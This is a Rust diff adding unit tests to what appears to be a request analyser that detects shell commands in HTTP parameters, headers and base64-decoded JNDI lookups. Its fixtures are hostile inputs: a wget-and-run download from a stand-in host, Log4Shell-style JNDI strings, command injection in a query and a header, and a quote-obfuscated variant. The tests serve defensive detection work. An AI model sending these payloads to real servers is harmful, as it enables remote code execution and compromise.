@@ -98,3 +98,71 @@ fn all_parameters(http: &http::Request<'_>, is_form: bool) -> Vec<(Vec<u8>, Vec<
     let all = [query, form, path].map(parameters).concat();
     all.into_iter().take(MAX_PARAMETERS).collect()
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::reader::Entry;
+    use crate::reader::entry::tests::{describer, entry, record};
+    use crate::reader::privacy::Privacy;
+
+    /// In base64: `wget http://198.51.100.9/x -O /tmp/x; sh /tmp/x`.
+    const HIDDEN: &str = "d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3ggLU8gL3RtcC94OyBzaCAvdG1wL3g=";
+
+    fn sentences(entry: &Entry) -> Vec<String> {
+        entry.actions.iter().map(|it| it.sentence()).collect()
+    }
+
+    fn told(request: &str) -> Vec<String> {
+        sentences(&entry(record(request.as_bytes())))
+    }
+
+    #[test]
+    fn commands_are_found_in_parameters_headers_and_what_is_decoded() {
+        let jndi = format!("${{jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/{HIDDEN}}}");
+        for request in [
+            "GET /x?a=1;wget+http://198.51.100.9/x+-O+/tmp/x;sh+/tmp/x HTTP/1.1\r\n\r\n".to_owned(),
+            "POST /x HTTP/1.1\r\ncmd: wget http://198.51.100.9/x -O /tmp/x; sh /tmp/x\r\n\r\n"
+                .to_owned(),
+            format!("GET / HTTP/1.1\r\nUser-Agent: {jndi}\r\n\r\n"),
+        ] {
+            let told = told(&request);
+            assert_eq!(told.len(), 1, "{request}: {told:?}");
+            assert!(told[0].contains("198[.]51[.]100[.]9"), "{told:?}");
+        }
+    }
+
+    #[test]
+    fn ordinary_requests_are_no_commands() {
+        for request in [
+            "GET /id HTTP/1.1\r\n\r\n",
+            "GET /search?q=cat&cat=5&sleep=1 HTTP/1.1\r\n\r\n",
+            "POST /ping HTTP/1.1\r\nContent-Length: 4\r\n\r\nping",
+        ] {
+            assert_eq!(told(request), [""; 0], "{request}");
+        }
+    }
+
+    #[test]
+    fn what_is_hidden_is_not_told() {
+        // Privacy undoes base64 and blanks what is in it; a shell undoes quotes besides.
+        let in_base64 = format!("/?x=${{jndi:ldap://203.0.113.5/Base64/{HIDDEN}}}");
+        let in_quotes = "/?x=;wget%20http://198.51.1''00.9/x%20-O%20/tmp/x";
+        for (target, left) in [(&*in_base64, 1), (in_quotes, 0)] {
+            let request = format!("GET {target} HTTP/1.1\r\n\r\n");
+            let told = |hidden: &str| {
+                let privacy = Privacy {
+                    hidden: hidden.parse().unwrap(),
+                    ..Privacy::default()
+                };
+                let record = record(request.as_bytes());
+                sentences(&Entry::new(&record, 1, &describer(privacy)))
+            };
+            let others = told("192.0.2.77");
+            assert_eq!(others.len(), 1, "{target}");
+            assert!(others[0].contains("198[.]51[.]100[.]9"), "{others:?}");
+            let hidden = told("198.51.100.9");
+            assert_eq!(hidden.len(), left, "{target}");
+            assert!(!hidden.concat().contains("198"), "{hidden:?}");
+        }
+    }
+}
